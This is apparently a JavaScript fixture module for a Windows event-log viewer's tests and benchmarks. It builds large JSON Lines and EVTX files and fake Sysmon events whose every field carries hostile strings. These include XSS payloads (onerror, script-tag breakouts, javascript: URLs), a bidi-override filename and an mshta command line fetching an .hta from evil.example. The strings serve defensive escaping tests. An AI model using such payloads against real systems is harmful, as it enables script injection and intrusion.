// Inputs made at run time for tests/runtimes/viewer.test.mjs (and
// bench/viewer.mjs): a large JSON Lines file built from copies of the
// bundled sample, a large .evtx built from copies of the real EVTX chunks,
// and files with hostile text in every field. Nothing here is stored in the
// repository.

import { closeSync, openSync, readdirSync, readFileSync, writeSync } from "node:fs";
import { crc32 } from "node:zlib";

const HOSTS = /WORKSTATION5|DESKTOP-2KGM189/gi;
const TIME = /(\d{4})-(\d{2})-(\d{2})([T ]\d{2}:\d{2}:\d{2})/g;
const DAY = 86_400_000;

/**
 * Writes copies of `sampleText` (JSON Lines) to `path` until it holds at
 * least `targetBytes`. Copy i has its hosts renamed (`WORKSTATION5-c00i`)
 * and every time moved i days later, so each copy is a new set of hosts,
 * in time order, and gives the sample's chains again. Returns
 * `{ copies, bytes, lines }`.
 */
export function writeCopies(path, sampleText, targetBytes) {
  const lines = sampleText.split("\n").filter((l) => l.trim() !== "");
  // Each line as pieces: text, host, time, text, ... so a copy is a join.
  const templates = lines.map((line) => {
    const pieces = [];
    const re = new RegExp(`${HOSTS.source}|${TIME.source}`, "gi");
    let at = 0;
    for (let m; (m = re.exec(line)); ) {
      pieces.push(line.slice(at, m.index));
      pieces.push(m[1] ? { y: +m[1], mo: +m[2], d: +m[3], rest: m[4] } : { host: m[0] });
      at = m.index + m[0].length;
    }
    pieces.push(line.slice(at));
    return pieces;
  });
  const fd = openSync(path, "w");
  let bytes = 0;
  let copies = 0;
  try {
    while (bytes < targetBytes) {
      const suffix = `-c${String(copies).padStart(4, "0")}`;
      const out = [];
      for (const pieces of templates) {
        let text = "";
        for (const p of pieces) {
          if (typeof p === "string") text += p;
          else if (p.host) text += p.host + suffix;
          else {
            const t = new Date(Date.UTC(p.y, p.mo - 1, p.d) + copies * DAY);
            text += `${t.toISOString().slice(0, 10)}${p.rest}`;
          }
        }
        out.push(text);
      }
      const chunk = Buffer.from(out.join("\n") + "\n");
      writeSync(fd, chunk);
      bytes += chunk.length;
      copies++;
    }
  } finally {
    closeSync(fd);
  }
  return { copies, bytes, lines: lines.length * copies };
}

/** Hostile strings: markup, script end tags, javascript: URLs, bidi overrides, NUL bytes. */
export const PAYLOADS = [
  `<img src=x onerror="window.__xss=(window.__xss||0)+1">`,
  `</script><script>window.__xss=2</script>`,
  `<svg onload=window.__xss=3><xss-probe>probe</xss-probe>`,
  `<a href="javascript:window.__xss=4">click</a>`,
  `javascript:window.__xss=5//`,
  `<iframe src="javascript:parent.__xss=6"></iframe>`,
  `evil\u202Eexe.txt`,
  `nul\u0000byte`,
  "`](javascript:x) ![i](http://127.0.0.2:9/x.png) |cell|",
];

const P = PAYLOADS.join(" ");
const guid = (n) => `{11111111-2222-3333-4444-${String(n).padStart(12, "0")}}`;

/**
 * Sysmon (flat) events of one chain with a payload in every string field:
 * mshta started with a hostile command line by a hostile parent, a child,
 * a file, a connection and a DNS lookup, on a host with a hostile name.
 */
export function hostileEvents(tag = "x") {
  const host = `HOST-${tag}${P}`;
  const base = { Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: host };
  const mshta = { ProcessGuid: guid(2), ProcessId: "4242", Image: "C:\\Windows\\System32\\mshta.exe" };
  return [
    {
      ...base,
      EventID: 1,
      UtcTime: "2024-05-01 10:00:00.000",
      ...mshta,
      CommandLine: `mshta.exe javascript:${P} https://evil.example/${encodeURIComponent(P)}.hta`,
      User: `CORP\\${P}`,
      ParentProcessGuid: guid(1),
      ParentProcessId: "100",
      ParentImage: `C:\\Users\\${P}\\parent.exe`,
      ParentCommandLine: `parent.exe ${P}`,
      OriginalFileName: "MSHTA.EXE",
    },
    {
      ...base,
      EventID: 1,
      UtcTime: "2024-05-01 10:00:01.000",
      ProcessGuid: guid(3),
      ProcessId: "4343",
      Image: `C:\\Windows\\System32\\cmd.exe`,
      CommandLine: `cmd.exe /c ${P}`,
      User: `CORP\\${P}`,
      ParentProcessGuid: mshta.ProcessGuid,
      ParentProcessId: mshta.ProcessId,
      ParentImage: mshta.Image,
      ParentCommandLine: `mshta.exe ${P}`,
    },
    { ...base, EventID: 11, UtcTime: "2024-05-01 10:00:02.000", ...mshta, TargetFilename: `C:\\Users\\Public\\${P}.hta` },
    { ...base, EventID: 22, UtcTime: "2024-05-01 10:00:03.000", ...mshta, QueryName: `${P}.evil.example`, QueryResults: P },
    {
      ...base,
      EventID: 3,
      UtcTime: "2024-05-01 10:00:04.000",
      ...mshta,
      Protocol: "tcp",
      Initiated: "true",
      SourceIp: "10.0.0.5",
      SourcePort: "50000",
      DestinationIp: "203.0.113.7",
      DestinationPort: "443",
      DestinationHostname: `${P}.evil.example`,
    },
  ];
}

/** A line holding a string of `n` characters (over the core's item limit: a rejected item). */
export function hugeLine(n = 1 << 20) {
  return JSON.stringify({ EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Hostname: "huge", CommandLine: `<img src=x onerror=window.__xss=9>${"A".repeat(n)}` });
}

/** Event XML (the shape wevtutil and Event Viewer export) of hostile events. */
export function hostileXml() {
  const esc = (s) => String(s).replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;").replace(/\u0000/g, "");
  const events = hostileEvents("xml").map((e) => {
    const data = Object.entries(e)
      .filter(([k]) => !["EventID", "Channel", "Hostname"].includes(k))
      .map(([k, v]) => `<Data Name="${k}">${esc(v)}</Data>`)
      .join("");
    return `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>${e.EventID}</EventID><Channel>${e.Channel}</Channel><Computer>${esc(e.Hostname)}</Computer></System><EventData>${data}</EventData></Event>`;
  });
  return `<?xml version="1.0" encoding="utf-8"?>\n<Events>${events.join("\n")}</Events>\n`;
}

/** The sample as text. */
export const sampleText = (path) => readFileSync(path, "utf8");

// ---------------------------------------------------------------------------
// A large .evtx made of real chunks.

const EVTX_HEADER = 4096;
const EVTX_CHUNK = 65536;
const CHUNK_MAGIC = Buffer.from("ElfChnk\0", "latin1");

/** The chunks of an .evtx file whose magic and CRC32s are intact (zero and damaged chunks are left out). */
export function evtxChunks(bytes) {
  const out = [];
  for (let at = EVTX_HEADER; at + EVTX_CHUNK <= bytes.length; at += EVTX_CHUNK) {
    const chunk = bytes.subarray(at, at + EVTX_CHUNK);
    if (!chunk.subarray(0, 8).equals(CHUNK_MAGIC)) continue;
    const free = chunk.readUInt32LE(48);
    if (free < 512 || free > EVTX_CHUNK || crc32(chunk.subarray(512, free)) !== chunk.readUInt32LE(52)) continue;
    if (chunkHeaderCrc(chunk) !== chunk.readUInt32LE(124)) continue;
    out.push(Buffer.from(chunk));
  }
  return out;
}

/** The chunk header's CRC32: bytes 0..120 and 128..512. */
function chunkHeaderCrc(chunk) {
  return crc32(Buffer.concat([chunk.subarray(0, 120), chunk.subarray(128, 512)]));
}

/** Where `text` (as written, lower or upper case) occurs as UTF-16LE in `buf`, at either byte alignment. */
function findUtf16(buf, text) {
  const at = new Set();
  for (const variant of new Set([text, text.toLowerCase(), text.toUpperCase()])) {
    const needle = Buffer.from(variant, "utf16le");
    for (let i = buf.indexOf(needle); i >= 0; i = buf.indexOf(needle, i + 1)) at.add(i);
  }
  return [...at];
}

/**
 * Writes an .evtx file of at least `targetBytes` to `path`: a 4 KB file
 * header and then copies of the intact chunks of `sources` (real .evtx
 * files), as the EVTX format allows (each 64 KB chunk carries its own
 * string and template tables). In copy i every host name of the sources
 * (`hosts`) has its last four characters replaced by i in base 36, and
 * each `renames` pair (same length) is applied, then the chunk's CRC32s
 * are recomputed; the file header gets the chunk count and its CRC32.
 * Returns `{ copies, chunks, bytes }`.
 */
export function writeEvtxCopies(path, sources, targetBytes, { hosts = [], renames = [] } = {}) {
  const chunks = sources.flatMap((file) => evtxChunks(readFileSync(file)));
  if (chunks.length === 0) throw new Error("no intact EVTX chunk in the sources");
  for (const [a, b] of renames) if (a.length !== b.length) throw new Error(`rename ${a} -> ${b}: lengths differ`);
  const total = Math.max(1, Math.ceil((targetBytes - EVTX_HEADER) / EVTX_CHUNK));
  if (total > 0xffff) throw new Error("an EVTX file header counts at most 65535 chunks");
  const header = Buffer.alloc(EVTX_HEADER);
  header.write("ElfFile\0", 0, "latin1");
  header.writeBigUInt64LE(0n, 8); // oldest chunk
  header.writeBigUInt64LE(BigInt(total - 1), 16); // current chunk
  header.writeBigUInt64LE(1n, 24); // next record number (not used by readers of whole files)
  header.writeUInt32LE(128, 32); // header size
  header.writeUInt16LE(1, 36); // minor version
  header.writeUInt16LE(3, 38); // major version
  header.writeUInt16LE(EVTX_HEADER, 40);
  header.writeUInt16LE(total, 42); // chunk count
  header.writeUInt32LE(0, 120); // flags: clean
  header.writeUInt32LE(crc32(header.subarray(0, 120)), 124);
  // Where each host name and rename sits in each chunk: found once, written per copy.
  const plans = chunks.map((chunk) => ({
    chunk,
    hosts: hosts.map((h) => findUtf16(chunk, h).map((at) => at + 2 * (h.length - 4))),
    renames: renames.map(([a, b]) => ({ to: b, at: findUtf16(chunk, a) })),
  }));
  const fd = openSync(path, "w");
  let written = 0;
  let copies = 0;
  try {
    writeSync(fd, header);
    while (written < total) {
      const tag = copies.toString(36).padStart(4, "0");
      for (const plan of plans) {
        if (written === total) break;
        const chunk = Buffer.from(plan.chunk);
        for (const r of plan.renames) for (const at of r.at) chunk.write(r.to, at, "utf16le");
        for (const list of plan.hosts) for (const at of list) chunk.write(tag, at, "utf16le");
        const free = chunk.readUInt32LE(48);
        chunk.writeUInt32LE(crc32(chunk.subarray(512, free)), 52);
        chunk.writeUInt32LE(chunkHeaderCrc(chunk), 124);
        writeSync(fd, chunk);
        written++;
      }
      copies++;
    }
  } finally {
    closeSync(fd);
  }
  return { copies, chunks: written, bytes: EVTX_HEADER + written * EVTX_CHUNK };
}

/**
 * The large .evtx of the viewer's test and benchmark: copies of the intact
 * chunks of the real sysmon.evtx, security.evtx and
 * Security_short_selected.evtx in `evtxDir`, each copy with its own host
 * names, and sysmon's C:\Windows\SysWOW64\cmd.exe renamed to
 * C:\Windows\System\mshta.exe (same length) so that every copy gives a
 * chain (the real samples have no mshta). Returns `{ copies, chunks, bytes }`.
 */
export function writeBigEvtx(path, evtxDir, targetBytes) {
  return writeEvtxCopies(path, ["sysmon.evtx", "security.evtx", "Security_short_selected.evtx"].map((f) => `${evtxDir}/${f}`), targetBytes, {
    hosts: ["DESKTOP-2KGM189", "WIN-03DLIIOFRRA", "37L4247F27-25", "temporal"],
    renames: [["C:\\Windows\\SysWOW64\\cmd.exe", "C:\\Windows\\System\\mshta.exe"]],
  });
}

// The main-thread probe, shared by the viewer test and bench/viewer.mjs.

/** The probe: a zero-delay timer loop (a gap between its turns is the main thread busy) and the long tasks. */
export async function startProbe(page) {
  await page.evaluate(() => {
    const probe = (window.__probe = { max: 0, turns: 0, long: 0, longMax: 0 });
    let last = performance.now();
    const turn = () => {
      const now = performance.now();
      probe.max = Math.max(probe.max, now - last);
      probe.turns++;
      last = now;
      probe.timer = setTimeout(turn, 0);
    };
    probe.timer = setTimeout(turn, 0);
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) {
        probe.long++;
        probe.longMax = Math.max(probe.longMax, e.duration);
      }
    }).observe({ type: "longtask" });
  });
}

/** Stops the probe: `{ max, turns, long, longMax }`. */
export const stopProbe = (page) => page.evaluate(() => (clearTimeout(window.__probe.timer), window.__probe));

/** The browser's processes (the one whose command line names `profile`, and its descendants) with their resident bytes. */
export function browserProcesses(profile) {
  const procs = [];
  for (const pid of readdirSync("/proc").filter((p) => /^\d+$/.test(p))) {
    try {
      const cmd = readFileSync(`/proc/${pid}/cmdline`, "utf8");
      const ppid = Number(readFileSync(`/proc/${pid}/stat`, "utf8").replace(/^.*\) /, "").split(" ")[1]);
      const rss = Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1] ?? 0) * 1024;
      procs.push({ pid: Number(pid), ppid, cmd, rss });
    } catch {
      /* gone */
    }
  }
  const ours = new Set(procs.filter((p) => p.cmd.includes(profile)).map((p) => p.pid));
  for (let grew = true; grew; ) {
    grew = false;
    for (const p of procs) if (!ours.has(p.pid) && ours.has(p.ppid)) ours.add(p.pid), (grew = true);
  }
  return procs.filter((p) => ours.has(p.pid));
}
